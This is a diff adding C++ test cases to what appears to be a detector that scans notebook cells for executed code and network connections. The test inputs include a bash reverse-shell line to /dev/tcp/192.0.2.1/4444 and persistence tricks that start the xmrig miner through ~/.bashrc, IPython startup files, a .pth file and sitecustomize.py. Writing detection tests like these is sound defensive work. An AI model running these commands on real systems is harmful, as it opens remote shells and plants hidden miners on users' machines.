@@ -139,6 +139,29 @@ TEST_CASE("chains of exec, eval, compile, getattr and imports are followed") {
     CHECK(runs({"class A:\n    def go(self):\n        import os\n        os.system('xmrig')"}));
 }
 
+TEST_CASE("a connection that a shell's redirection opens is an address that is used") {
+    CHECK(find(facts_of({"!bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"}), FactKind::url, "/dev/tcp/192.0.2.1/4444") != nullptr);
+    CHECK_FALSE(uses_any(facts_of({"print('bash -i >& /dev/tcp/192.0.2.1/4444')"}), "/dev/tcp"));
+}
+
+TEST_CASE("what a dictionary says stands in the words of the call that gets it") {
+    const auto facts = facts_of({"net.run(None, {'target': crop, 'source': identity, 'size': [128, 128]})"});
+    const Fact* call = find(facts, FactKind::call, "net.run");
+    REQUIRE(call != nullptr);
+    CHECK(call->text.find("target: ") != std::string::npos);
+    CHECK(call->text.find("size: [128, 128]") != std::string::npos);
+}
+
+TEST_CASE("what is written into a startup file runs at the next start, and is read") {
+    CHECK(runs({"!echo 'xmrig -o x' >> ~/.bashrc"}));
+    CHECK(runs({"%%writefile /home/person/.ipython/profile_default/startup/00-a.py\nimport os\nos.system('xmrig')"}));
+    CHECK(runs({"%%writefile .ipython/profile_default/startup/a.ipy\n!xmrig"}));
+    CHECK(runs({"open('/usr/lib/python3/dist-packages/a.pth', 'w').write('import os; os.system(\"xmrig\")')"}));
+    CHECK(runs({"import pathlib\npathlib.Path('sitecustomize.py').write_text('import subprocess\\nsubprocess.run([\"xmrig\"])')"}));
+    CHECK_FALSE(uses_any(facts_of({"%%writefile notes.txt\nxmrig -o x"}), "what starts next"));
+    CHECK(find(facts_of({"!echo 'export PATH=$PATH:~/bin' >> ~/.bashrc"}), FactKind::run, "~/.bashrc") != nullptr);
+}
+
 TEST_CASE("files that one cell writes and another runs are read") {
     CHECK(runs({"%%writefile a.py\nimport os\nos.system('xmrig')", "!python a.py"}));
     CHECK(runs({"%%writefile a.sh\nxmrig -o x", "!chmod +x a.sh && ./a.sh"}));
